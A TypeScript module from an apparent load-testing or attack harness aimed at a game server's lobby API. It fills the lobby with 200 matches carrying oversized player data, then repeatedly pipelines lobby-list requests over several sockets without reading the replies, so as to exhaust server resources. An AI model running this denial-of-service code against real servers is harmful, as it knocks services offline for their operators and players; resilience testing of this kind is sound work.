import { connect, type Socket } from 'node:net';

import { GAME } from '../../lib/game';
import { HttpSender } from '../../lib/http';
import { pause } from '../pace';
import { type Attack, PROXY, type Target } from '../target';

const MATCHES = 200;
const EACH_ADDRESS = 20;
/** As much as a body may be, and what a server may hold instead. */
const DATA_SIZES = [15_900, 1000] as const;
const LISTINGS = 14;
const CONNECTIONS = 8;
const AGAIN_MS = 5000;

/** Fills the stock lobby with players' own data, and asks for the list again and again without reading it. */
export const lobbyData: Attack = async (target) => {
  await fill(target);
  const { port } = new URL(target.url);
  const from = Array.from({ length: CONNECTIONS }, (_, i) => `127.1.7.${i + 1}`);
  const request = `GET /games/${GAME} HTTP/1.1\r\nHost: ${PROXY}:${port}\r\n\r\n`;
  while (!target.signal.aborted) {
    const sockets: Socket[] = from.map((localAddress) => {
      const socket = connect({ host: PROXY, port: Number(port), localAddress });
      socket.pause();
      socket.on('error', () => socket.destroy());
      socket.write(request.repeat(LISTINGS));
      target.count('listings nobody reads', LISTINGS);
      return socket;
    });
    await pause(target, AGAIN_MS);
    for (const socket of sockets) socket.destroy();
  }
};

async function fill(target: Target): Promise<void> {
  for (let n = 0; n < MATCHES && !target.signal.aborted;) {
    const http = new HttpSender(target.url, `127.1.8.${n / EACH_ADDRESS + 1}`);
    for (let i = 0; i < EACH_ADDRESS; i++, n++) {
      const made = await http.post(`/games/${GAME}/create`, { numPlayers: 2 });
      target.count(made === null ? 'matches refused' : 'matches made');
      if (made === null) continue;
      for (const playerName of ['Anna', 'Ben']) {
        for (const size of DATA_SIZES) {
          const data = { text: 'x'.repeat(size) };
          if ((await http.post(`/games/${GAME}/${String(made.matchID)}/join`, { playerName, data })) !== null) break;
        }
      }
    }
    http.close();
  }
}
